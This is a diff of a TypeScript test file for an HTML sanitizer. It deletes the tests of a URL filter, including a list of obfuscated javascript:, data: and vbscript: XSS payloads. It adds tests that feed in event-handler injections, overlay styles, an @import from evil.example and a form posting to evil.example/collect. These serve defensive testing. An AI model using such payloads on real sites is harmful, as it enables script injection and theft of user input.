@@ -1,57 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { safeUrl, sanitizeHtml, setSanitizedHtml } from './sanitize';
-
-describe('safeUrl (site spec 2.3 link rule)', () => {
-  it.each([
-    'javascript:alert(1)',
-    'JavaScript:alert(1)',
-    '  javascript:alert(1)',
-    '\tjavascript:alert(1)',
-    'java\tscript:alert(1)',
-    'java\nscript:alert(1)',
-    'java\u0000script:alert(1)',
-    '\u0001javascript:alert(1)',
-    'java\u200bscript:alert(1)',
-    'jav&#x09;ascript:alert(1)',
-    'jav&#9;ascript:alert(1)',
-    '&#106;avascript:alert(1)',
-    '&#x6A;avascript:alert(1)',
-    '&#0000106avascript:alert(1)',
-    'javascript&colon;alert(1)',
-    'java&Tab;script:alert(1)',
-    '&amp;#106;avascript:alert(1)',
-    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
-    'DATA:image/svg+xml,<svg onload=alert(1)>',
-    'vbscript:msgbox(1)',
-    ' VBScript:msgbox(1)',
-  ])('blocks %j', (url) => {
-    expect(safeUrl(url)).toBe('about:blank');
-  });
-
-  it.each([
-    '/investor/insights',
-    './fund.pdf',
-    '../x',
-    '//cdn.example.com/a.js',
-    'https://www.example.com/a?b=javascript:x',
-    'http://example.com',
-    'mailto:a@example.com',
-    'tel:8005550110',
-    '#contact-us',
-    '?topic=x',
-    'funds/detail',
-    'javascripts/app.js',
-    'about:blank',
-  ])('passes %j unchanged', (url) => {
-    expect(safeUrl(url)).toBe(url);
-  });
-
-  it('gives an empty string for a missing URL', () => {
-    expect(safeUrl(undefined)).toBe('');
-    expect(safeUrl(null)).toBe('');
-    expect(safeUrl('')).toBe('');
-  });
-});
+import { sanitizeHtml, setSanitizedHtml } from './sanitize';
 
 describe('sanitizeHtml', () => {
   it('removes scripts and event handlers', () => {
@@ -89,6 +37,35 @@ describe('sanitizeHtml', () => {
     expect(blank!.getAttribute('target')).toBe('_blank');
     expect(blank!.getAttribute('rel')).toBe('external noopener noreferrer');
     expect(plain!.hasAttribute('rel')).toBe(false);
+  });
+
+  it('removes styles that could hide or cover the widget: <style> elements, @import, style attributes', () => {
+    const html = sanitizeHtml(
+      '<style>@import url(//evil.example/x.css); .actions{display:none}</style>' +
+        '<p style="position:fixed;inset:0;z-index:9999">Read this</p>' +
+        '<svg><style>*{opacity:0}</style><circle r="1"></circle></svg>',
+    );
+    expect(html).not.toMatch(/style|@import|position/i);
+    expect(html).toContain('<p>Read this</p>');
+  });
+
+  it('removes event handlers however they are written, before a parser sees them', () => {
+    const html = sanitizeHtml(
+      '<img src="x.png" onerror="alert(1)"><img src="y.png"ONLOAD=alert(2)><svg/onload=alert(3)>' +
+        "<p title='a'onclick = 'x()'>Text about going on=time</p>",
+    );
+    expect(html).not.toMatch(/\bon(error|load|click)\b|x-removed/i);
+    expect(html).toContain('Text about going on=time');
+  });
+
+  it('removes forms and their controls, keeping their text', () => {
+    const html = sanitizeHtml(
+      '<form action="https://evil.example/collect"><label>Name <input name="n"></label>' +
+        '<button formaction="https://evil.example">Send</button><select><option>x</option></select>' +
+        '<textarea>t</textarea></form><p popover>p</p>',
+    );
+    expect(html).not.toMatch(/<form|<input|<button|<select|<textarea|action=|popover/i);
+    expect(html).toContain('Name');
   });
 
   it('gives an empty string for missing HTML', () => {
